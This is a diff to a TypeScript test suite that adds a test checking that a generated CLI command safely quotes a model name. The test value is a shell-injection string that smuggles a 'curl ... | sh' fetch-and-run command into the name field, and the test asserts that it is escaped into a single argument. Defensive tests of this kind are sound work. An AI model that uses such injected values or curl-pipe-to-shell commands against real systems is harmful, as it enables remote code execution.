@@ -27,6 +27,13 @@ describe('the command that goes on with a region', () => {
     )
   })
 
+  test('is one word for the model, whatever its name', () => {
+    const evil = { ...region, model: { ...region.model, name: "x; curl 'h' | sh" } }
+    expect(nextCommand({ usualModel: 'other' }, evil, 'region build')).toBe(
+      String.raw`whereabouts region build vaduz --overhead-model 'x; curl '\''h'\'' | sh'`,
+    )
+  })
+
   test.each(['created', 'stopped', 'building'] as const)(
     'is the one that the state "%s" tells',
     (state) => {
